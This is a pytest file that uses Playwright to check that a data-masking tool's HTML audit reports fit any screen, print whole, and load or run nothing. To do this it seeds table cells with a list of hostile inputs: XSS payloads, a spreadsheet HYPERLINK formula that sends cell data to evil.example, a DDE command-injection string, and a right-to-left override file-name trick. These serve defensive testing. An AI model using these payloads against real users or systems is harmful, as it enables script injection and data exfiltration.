"""The HTML report in a browser: it fits every width, loads nothing, runs nothing, prints whole.

SEMVEIL_SCREENSHOTS=FOLDER keeps pictures of every page; SEMVEIL_REPORTS=FOLDER looks at the HTML files
there instead of asking the program for them."""

import csv
import io
import os
import pathlib
import shutil

import pytest

from clinic import HEADER, ONTOLOGY, PLAN, SECOND, rows

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
if CHROMIUM is None:
    pytest.skip("no chromium is installed (Debian: apt install chromium)", allow_module_level=True)
sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not in the environment")

WIDTHS = {"phone": 390, "narrow": 360, "desk": 1280}
HOSTILE = [
    "<script>alert(1)</script>", "<img src=http://evil.example/x onerror=alert(1)>",
    '"><svg onload=alert(1)>', '=HYPERLINK("http://evil.example/?"&A1,"x")', "'+cmd|' /C calc'!A0",
    "user\u202etxt.exe", "שלום עולם", "👩‍👩‍👧‍👦 family", "x" * 10_000, "</title></style><h1>big</h1>",
]

# What does not fit: letters outside their box where the box cuts them, or outside the page.
CLIPPED = """() => {
  const bad = [];
  for (const e of document.querySelectorAll('main *')) {
    if (e.closest('svg') || e.closest('details:not([open])') && e.tagName !== 'SUMMARY') continue;
    const style = getComputedStyle(e);
    if (style.overflowX !== 'visible' && e.scrollWidth > e.clientWidth + 1) bad.push(e.outerHTML.slice(0, 200));
    const box = e.getBoundingClientRect();
    if (box.width > 0 && (box.right > document.documentElement.clientWidth + 1 || box.left < -1))
      bad.push('outside: ' + e.outerHTML.slice(0, 200));
  }
  for (const svg of document.querySelectorAll('svg')) {
    const view = svg.viewBox.baseVal;
    for (const t of svg.querySelectorAll('text')) {
      const box = t.getBBox();
      if (box.x < -1 || box.x + box.width > view.width + 1 || box.y + box.height > view.height + 3)
        bad.push('cut: ' + t.textContent);
    }
  }
  return bad;
}"""
# Letters of drawings, in pixels of the screen.
LETTERS = """() => [...document.querySelectorAll('svg text')].filter(t => t.getClientRects().length).map(t =>
  parseFloat(getComputedStyle(t).fontSize) * t.getScreenCTM().a)"""


def made_by_program(program, folder):
    """Reports on a table with hostile cells: both editions."""
    records = rows(400)
    for i, text in enumerate(HOSTILE * 6):  # so often that no rule pools them
        records[i * 5][3] = text
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(HEADER.split(","))
    writer.writerows(records)
    program.write("disease.csv", ONTOLOGY)
    program.write("table.csv", out.getvalue())
    program.write("plan.toml", PLAN.replace("[mask]", SECOND + """
[column.city]
role = "quasi-identifier"

[column.note]
role = "sensitive"

[mask]"""))
    program.ok("mask", "table.csv", "--plan", "plan.toml", "-o", "masked.csv", "--seed", "s", "--quiet")
    for edition in ("public", "steward"):
        done = program.run("audit", "table.csv", "masked.csv", "--plan", "plan.toml", "--quiet",
                           "--report", str(folder / f"{edition}.html"), "--edition", edition)
        assert done.returncode == 0, done.stderr


@pytest.fixture(scope="module")
def reports(tmp_path_factory):
    """HTML files by name."""
    kept = os.environ.get("SEMVEIL_REPORTS")
    folder = pathlib.Path(kept) if kept else tmp_path_factory.mktemp("reports")
    if not kept:
        from conftest import Semveil
        made_by_program(Semveil(tmp_path_factory.mktemp("run")), folder)
    files = {path.stem: path.resolve() for path in sorted(folder.glob("*.html"))}
    assert files
    return files


@pytest.fixture(scope="module")
def browser():
    with sync_api.sync_playwright() as playwright:
        # Everything it opens is made by this test.
        chromium = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        yield chromium
        chromium.close()


@pytest.fixture
def opened(browser):
    """Opens a file; every request, message and dialog is remembered."""
    contexts = []

    def open_file(path, width, scheme="light"):
        context = browser.new_context(viewport={"width": width, "height": 900}, color_scheme=scheme)
        contexts.append(context)
        page = context.new_page()
        page.seen = []
        page.on("request", lambda request: page.seen.append(request.url))
        page.on("console", lambda message: page.seen.append(f"console: {message.text}"))
        page.on("pageerror", lambda error: page.seen.append(f"error: {error}"))
        page.on("dialog", lambda dialog: (page.seen.append(f"dialog: {dialog.message}"), dialog.dismiss()))
        page.goto(path.as_uri())
        return page

    yield open_file
    for context in contexts:
        context.close()


def picture(page, name):
    folder = os.environ.get("SEMVEIL_SCREENSHOTS")
    if folder:
        pathlib.Path(folder).mkdir(parents=True, exist_ok=True)
        page.screenshot(path=f"{folder}/{name}.png", full_page=True)


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", WIDTHS.values(), ids=WIDTHS.keys())
def test_a_report_fits_the_screen(reports, opened, width, scheme):
    for name, path in reports.items():
        page = opened(path, width, scheme)
        picture(page, f"{name}-{width}-{scheme}")
        assert page.evaluate("document.documentElement.scrollWidth") <= width, name
        assert page.evaluate(CLIPPED) == [], name
        sizes = page.evaluate(LETTERS)
        assert not sizes or 9 <= min(sizes) and max(sizes) <= 18, name
        # Tables that are closed must fit, too, once they are opened.
        page.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)")
        assert page.evaluate("document.documentElement.scrollWidth") <= width, name
        assert page.evaluate(CLIPPED) == [], name


def test_a_report_loads_and_runs_nothing(reports, opened):
    for name, path in reports.items():
        page = opened(path, 1280)
        page.wait_for_load_state("networkidle")
        assert page.seen == [path.as_uri()], name
        assert page.locator("script, img, iframe, object, embed, link, form, [onload], [onerror]").count() == 0
        assert page.locator("h1").count() == 1, name
        # Characters that turn the direction of text do not get through.
        text = page.evaluate("document.documentElement.textContent")
        assert not set(text) & set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\0"), name
        assert "x" * 100 not in text
        for link in page.locator("a").all():
            target = link.get_attribute("href")
            assert target.startswith("#") and page.locator(f"[id='{target[1:]}']").count() == 1, target


def test_dark_is_dark_and_paper_is_white(reports, opened):
    background = "getComputedStyle(document.body).backgroundColor"
    light = "Math.max(...getComputedStyle(document.body).backgroundColor.match(/[0-9]+/g).slice(0, 3))"
    for path in reports.values():
        page = opened(path, 1280, "dark")
        assert page.evaluate(light) < 80
        page.emulate_media(media="print", color_scheme="dark")
        assert page.evaluate(background) == "rgb(255, 255, 255)"
        assert opened(path, 1280, "light").evaluate(light) > 240


def test_a_report_is_printed_whole(reports, opened, tmp_path):
    for name, path in reports.items():
        page = opened(path, 1280)
        folder = pathlib.Path(os.environ.get("SEMVEIL_SCREENSHOTS") or tmp_path)
        folder.mkdir(parents=True, exist_ok=True)
        pdf = page.pdf(path=str(folder / f"{name}.pdf"), format="A4", print_background=True)
        assert pdf.startswith(b"%PDF") and len(pdf) > 10_000
        # As wide as the paper inside its margins: 210 − 2 · 14 mm at 96 dots an inch.
        page.set_viewport_size({"width": 688, "height": 1000})
        page.emulate_media(media="print")
        assert page.evaluate("document.documentElement.scrollWidth") <= 688, name
        assert page.evaluate(CLIPPED) == [], name
        for figure in page.locator("figure").all():
            assert figure.bounding_box()["height"] < 900, name  # a page's: else it would be cut
